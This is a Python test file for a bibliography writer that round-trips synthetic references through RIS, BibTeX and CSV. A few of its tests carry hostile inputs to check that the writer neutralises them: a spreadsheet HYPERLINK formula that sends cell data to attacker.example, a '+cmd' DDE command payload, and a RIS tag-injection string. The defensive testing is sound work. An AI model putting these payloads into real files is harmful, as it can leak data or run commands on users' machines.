"""Tests for the reference writers (steppingstones.evidence.references.writers).

The main check is a round trip: write a set of realistic references (accents, braces,
ampersands and the other LaTeX specials, a corporate author, a "Jr", particles, article
numbers, a multi-paragraph abstract, MeSH keywords holding commas) as RIS, BibTeX and CSV,
read the output back with the project's own ``parse`` and compare the fields. The records
are synthetic; DOIs use the 10.5555 test prefix.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest

from steppingstones.evidence.references import Reference, parse
from steppingstones.evidence.references.writers import (
    BIBTEX_TYPES,
    CSV_COLUMNS,
    RIS_TYPES,
    latex_escape,
    write_bibtex,
    write_csv,
    write_ris,
)

ROUND_TRIP_FIELDS = (
    "title",
    "authors",
    "year",
    "journal",
    "volume",
    "issue",
    "pages",
    "doi",
    "pmid",
    "keywords",
)

REFERENCES = [
    Reference(
        title=(
            "Outcomes of a collocated antenatal clinic for pregnant women using opioids: "
            "a retrospective cohort"
        ),
        abstract=(
            "Background: Women who use opioids often miss antenatal care.\n\n"
            "Methods: We compared 212 women attending the clinic with 198 receiving\n"
            "standard care.\n\nResults: Attendance rose (median 9 vs 5 visits)."
        ),
        authors=["Müller, Jürgen", "García-Pérez, María José", "Ó Súilleabháin, Aoife"],
        year=2019,
        journal="Journal of Perinatal Addiction & Care",
        journal_abbrev="J Perinat Addict Care",
        volume="12",
        issue="3",
        pages="1234-1239",
        doi="10.5555/demo.2019.0001",
        pmid="99000123",
        keywords=["Pregnancy", "Opioid-Related Disorders", "Prenatal Care"],
        type="journal-article",
        url="https://example.org/articles/collocated_clinic?id=7&lang=en",
        language="English",
    ),
    Reference(
        title="Mothers & babies: 100% rooming-in, a {curly} note, $US costs, #MeToo and x_1^2",
        abstract="Costs rose by 12% (~$1,000 per woman); see {appendix}.",
        authors=["van der Berg, J.A.", "O'Brien, Siobhán", "Okafor, Chidi, Jr"],
        year=2021,
        journal="Drug & Alcohol Review of Perinatal Care (synthetic)",
        volume="40",
        issue="Suppl 1",
        pages="e0276431",
        doi="10.5555/(sici)1097-0258(19980315)17:5<489::aid-sim785>3.0.co;2-#",
        keywords=["Pregnancy, High-Risk", "Infant, Newborn", "Rooming-in Care"],
        type="journal-article",
    ),
    Reference(
        title="HIV and COVID-19 testing in McDonald-Nguyễn’s model of integrated care",
        authors=["World Health Organization"],
        year=2022,
        journal="Integrated maternity care: a handbook",
        pages="S12-S19",
        doi="10.5555/demo_chapter.2022",
        keywords=["Delivery of Health Care, Integrated"],
        type="chapter",
    ),
    Reference(
        title="Integrated care for mothers who use drugs",
        authors=["Łukasiewicz, Zofia", "Øvergård, Kari"],
        year=2020,
        journal="Stepping Stones Press (synthetic)",
        type="book",
    ),
    Reference(
        title="A one-stop perinatal service: proceedings abstract",
        authors=["Smith, John A.", "Smith, John A."],
        year=2018,
        journal="Proceedings of the Demo Perinatal Conference",
        pages="45",
        type="conference",
    ),
    Reference(
        title="Evaluation report on wraparound perinatal care",
        authors=["Tennant, R."],
        year=2017,
        pmid="99000456",
        type="report",
    ),
    Reference(title="A thesis on family-centred care", authors=["Yarrow, P."], type="thesis"),
    Reference(title="Service web page", url="https://example.org/service", type="web"),
    Reference(title="Untyped record", authors=["Jessop, K."], year=2015, type="other"),
]


def fields(reference: Reference, names: tuple[str, ...] = ROUND_TRIP_FIELDS) -> dict[str, Any]:
    data = reference.to_dict()
    return {name: data[name] for name in names}


def written(writer: Any, records: list[Any], **kwargs: Any) -> str:
    handle = io.StringIO(newline="")
    count = writer(records, handle, **kwargs)
    assert count == len(records)
    return handle.getvalue()


def round_trip(writer: Any, fmt: str, records: list[Any] | None = None) -> list[Reference]:
    records = REFERENCES if records is None else records
    result = parse(written(writer, records).encode("utf-8"), format=fmt, filename=f"out.{fmt}")
    assert result.warnings == []
    assert len(result.records) == len(records)
    return result.records


# --- round trips --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("writer", "fmt"), [(write_ris, "ris"), (write_bibtex, "bibtex"), (write_csv, "csv")]
)
def test_round_trip_keeps_the_fields(writer: Any, fmt: str) -> None:
    for original, back in zip(REFERENCES, round_trip(writer, fmt), strict=True):
        assert fields(back) == fields(original), original.title


@pytest.mark.parametrize(("writer", "fmt"), [(write_ris, "ris"), (write_bibtex, "bibtex")])
def test_round_trip_keeps_types_abbreviations_urls_and_language(writer: Any, fmt: str) -> None:
    extra = ("type", "journal_abbrev", "url", "language")
    for original, back in zip(REFERENCES, round_trip(writer, fmt), strict=True):
        assert fields(back, extra) == fields(original, extra), original.title


@pytest.mark.parametrize(
    ("writer", "fmt"), [(write_ris, "ris"), (write_bibtex, "bibtex"), (write_csv, "csv")]
)
def test_multi_line_abstract_comes_back_with_its_whitespace_collapsed(
    writer: Any, fmt: str
) -> None:
    back = round_trip(writer, fmt)
    for original, record in zip(REFERENCES, back, strict=True):
        expected = " ".join(original.abstract.split()) if original.abstract else None
        assert record.abstract == expected


def test_round_trip_from_mappings_with_text_lists() -> None:
    row = {
        "title": "Retention in care with a wraparound model",
        "authors": "Penrose, A.; Varley, B.C.",
        "keywords": "Pregnancy; Retention in Care",
        "year": "2016",
        "journal": "Demo Journal of Perinatal Care",
        "pages": "100–110",
        "doi": "https://doi.org/10.5555/DEMO.2016.0042",
        "pmid": "99000789",
        "decision": "include",
    }
    expected = {
        "title": "Retention in care with a wraparound model",
        "authors": ["Penrose, A.", "Varley, B.C."],
        "year": 2016,
        "journal": "Demo Journal of Perinatal Care",
        "volume": None,
        "issue": None,
        "pages": "100-110",
        "doi": "10.5555/demo.2016.0042",
        "pmid": "99000789",
        "keywords": ["Pregnancy", "Retention in Care"],
    }
    for writer, fmt in ((write_ris, "ris"), (write_bibtex, "bibtex"), (write_csv, "csv")):
        (back,) = round_trip(writer, fmt, [row])
        assert fields(back) == expected, fmt


# --- RIS ----------------------------------------------------------------------------------


def test_ris_tags() -> None:
    text = written(write_ris, REFERENCES[:1])
    lines = text.splitlines()
    assert lines[0] == "TY  - JOUR"
    assert lines[1:4] == [
        "AU  - Müller, Jürgen",
        "AU  - García-Pérez, María José",
        "AU  - Ó Súilleabháin, Aoife",
    ]
    for line in (
        "T2  - Journal of Perinatal Addiction & Care",
        "J2  - J Perinat Addict Care",
        "PY  - 2019",
        "SP  - 1234",
        "EP  - 1239",
        "KW  - Opioid-Related Disorders",
        "DO  - 10.5555/demo.2019.0001",
        "N1  - PMID: 99000123",
        "LA  - English",
    ):
        assert line in lines
    assert lines[-2:] == ["ER  - ", ""]
    abstract = next(line for line in lines if line.startswith("AB  - "))
    assert "Methods: We compared 212 women attending the clinic with 198 receiving standard" in (
        abstract
    )
    assert all(re.match(r"^[A-Z][A-Z0-9]  - ", line) for line in lines if line)


def test_ris_type_for_every_reference_type() -> None:
    assert set(RIS_TYPES) == {
        "journal-article",
        "book",
        "chapter",
        "conference",
        "report",
        "thesis",
        "web",
        "other",
    }
    text = written(write_ris, [{"title": "x", "type": "no-such-type"}])
    assert text.startswith("TY  - GEN\n")


def test_ris_whole_book_journal_goes_in_jo_not_t2() -> None:
    text = written(write_ris, [REFERENCES[3]])
    assert "JO  - Stepping Stones Press (synthetic)" in text.splitlines()
    assert "T2  -" not in text


def test_ris_value_cannot_start_a_tag_line() -> None:
    hostile = {"title": "Harmless\nER  - \nTY  - JOUR\nTI  - injected", "type": "web"}
    (back,) = parse(written(write_ris, [hostile]).encode(), format="ris").records
    assert back.title == "Harmless ER - TY - JOUR TI - injected"


# --- BibTeX -------------------------------------------------------------------------------


def test_bibtex_keys_are_unique_and_ascii() -> None:
    text = written(write_bibtex, [*REFERENCES, REFERENCES[4], REFERENCES[4]])
    keys = re.findall(r"^@\w+\{([^,]+),$", text, flags=re.MULTILINE)
    assert keys[:4] == [
        "muller2019a",
        "vanderberg2021a",
        "worldhealthorganizat2022a",  # a corporate author, cut to 20 characters
        "lukasiewicz2020a",  # "Ł" has no Unicode decomposition: transliterated
    ]
    assert keys[4:] == [
        "smith2018a",
        "tennant2017a",
        "yarrownda",  # no year
        "anonnda",  # no author, no year
        "jessop2015a",
        "smith2018b",
        "smith2018c",
    ]
    assert len(set(keys)) == len(keys)
    assert all(re.fullmatch(r"[a-z0-9]+", key) for key in keys)


def test_bibtex_entry_types() -> None:
    text = written(write_bibtex, REFERENCES)
    types = re.findall(r"^@(\w+)\{", text, flags=re.MULTILINE)
    assert types == [BIBTEX_TYPES[reference.type] for reference in REFERENCES]


def test_bibtex_escapes_specials_and_keeps_unicode() -> None:
    text = written(write_bibtex, REFERENCES[:3])
    assert (
        "title = {Mothers \\& babies: 100\\% rooming-in, a \\{curly\\} note, \\${US} costs, "
        "\\#{MeToo} and x\\_1\\^{}2}"
    ) in text
    assert "abstract = {Costs rose by 12\\% (\\textasciitilde{}\\$1,000 per woman)" in text
    assert "author = {Müller, Jürgen and García-Pérez, María José and Ó Súilleabháin, Aoife}" in (
        text
    )
    assert "author = {van der Berg, J.A. and O'Brien, Siobhán and Okafor, Jr, Chidi}" in text
    assert "author = {{World Health Organization}}" in text
    assert "booktitle = {Integrated maternity care: a handbook}" in text
    assert "pages = {1234--1239}" in text
    assert "pages = {S12--S19}" in text
    assert "doi = {10.5555/demo_chapter.2022}" in text  # verbatim, as biblatex reads DOIs
    assert "url = {https://example.org/articles/collocated_clinic?id=7&lang=en}" in text
    assert "keywords = {Pregnancy, High-Risk; Infant, Newborn; Rooming-in Care}" in text
    assert "keywords = {Delivery of Health Care, Integrated;}" in text
    assert "pmid = {99000123}" in text


def test_bibtex_protects_the_case_of_acronyms() -> None:
    text = written(write_bibtex, [REFERENCES[2]])
    assert "title = {{HIV} and {COVID-19} testing in {McDonald-Nguyễn’s} model of" in text


def test_latex_escape_lone_braces_and_backslash() -> None:
    assert latex_escape("a } b { c") == "a \\textbraceright{} b \\textbraceleft{} c"
    assert latex_escape("{a} }") == "\\{a\\} \\textbraceright{}"
    assert latex_escape("C:\\temp") == "C:\\textbackslash{}temp"
    assert latex_escape("  two\n lines ") == "two lines"


def test_bibtex_with_lone_braces_still_parses() -> None:
    records = [
        Reference(title="Ratio } of {{ odd braces", authors=["Oakes, T."], year=2001),
        Reference(title="The next entry", authors=["Upton, V."], year=2002, volume="3"),
    ]
    back = parse(written(write_bibtex, records).encode(), format="bibtex").records
    assert [record.year for record in back] == [2001, 2002]
    assert back[1].title == "The next entry"
    assert back[1].volume == "3"


def test_bibtex_author_with_and_in_a_name_stays_one_author() -> None:
    record = {"title": "x", "authors": ["Marwood and Sons, Ltd", "Upton, V."]}
    text = written(write_bibtex, [record])
    assert "author = {{Marwood and Sons}, Ltd and Upton, V.}" in text
    (back,) = parse(text.encode(), format="bibtex").records
    assert back.authors == ["Marwood and Sons, Ltd", "Upton, V."]


def test_bibtex_unbalanced_brace_in_doi_is_percent_encoded() -> None:
    record = {"title": "x", "doi": "10.5555/demo{1"}
    text = written(write_bibtex, [record])
    assert "doi = {10.5555/demo%7B1}" in text
    (back,) = parse(text.encode(), format="bibtex").records
    assert back.doi == "10.5555/demo{1"


# --- CSV ----------------------------------------------------------------------------------


def test_csv_columns_and_extra_columns() -> None:
    rows = [
        {**REFERENCES[0].to_dict(), "decision": "include", "reason": ""},
        {**REFERENCES[1].to_dict(), "decision": "exclude", "reason": "wrong population"},
        REFERENCES[2],  # a Reference: extra cells left empty
    ]
    text = written(write_csv, rows, extra_columns=("decision", "reason"))
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == [*CSV_COLUMNS, "decision", "reason"]
    assert len(table) == 4
    first = dict(zip(table[0], table[1], strict=True))
    assert first["authors"] == "Müller, Jürgen; García-Pérez, María José; Ó Súilleabháin, Aoife"
    assert first["keywords"] == "Pregnancy; Opioid-Related Disorders; Prenatal Care"
    assert first["year"] == "2019"
    assert first["abstract"].startswith("Background: Women who use opioids")
    assert "\n\nMethods:" in first["abstract"]  # CSV cells keep line breaks
    second = dict(zip(table[0], table[2], strict=True))
    assert (second["decision"], second["reason"]) == ("exclude", "wrong population")
    third = dict(zip(table[0], table[3], strict=True))
    assert (third["decision"], third["reason"]) == ("", "")


def test_csv_neutralises_spreadsheet_formulas() -> None:
    hostile = {
        "title": '=HYPERLINK("https://attacker.example/?q="&A1, "Click")',
        "authors": ["+cmd|' /C calc'!A0", "Upton, V."],
        "journal": "@SUM(1+1)",
        "reason": "-2+3",
    }
    text = written(write_csv, [hostile], extra_columns=("reason",))
    row = dict(
        zip(*list(csv.reader(io.StringIO(text, newline=""))), strict=True)  # header, row
    )
    assert row["title"] == '\'=HYPERLINK("https://attacker.example/?q="&A1, "Click")'
    assert row["authors"].startswith("'+cmd")
    assert row["journal"] == "'@SUM(1+1)"
    assert row["reason"] == "'-2+3"
    (back,) = parse(text.encode(), format="csv").records
    assert back.title is not None and back.title.startswith("'=HYPERLINK(")


def test_csv_single_extra_column_given_as_text() -> None:
    text = written(write_csv, [{"title": "x", "decision": "include"}], extra_columns="decision")
    assert text.splitlines()[0].endswith(",url,decision")
    assert text.splitlines()[1].endswith(",include")


def test_csv_rejects_clashing_extra_columns() -> None:
    with pytest.raises(ValueError, match="title"):
        write_csv([], io.StringIO(), extra_columns=("title",))
    with pytest.raises(ValueError, match="more than once"):
        write_csv([], io.StringIO(), extra_columns=("decision", "decision"))


def test_empty_input_and_wrong_record_type() -> None:
    assert written(write_ris, []) == ""
    assert written(write_bibtex, []) == ""
    assert written(write_csv, []).splitlines() == [",".join(CSV_COLUMNS)]
    with pytest.raises(TypeError, match="Reference or a mapping"):
        write_ris([42], io.StringIO())  # type: ignore[list-item]
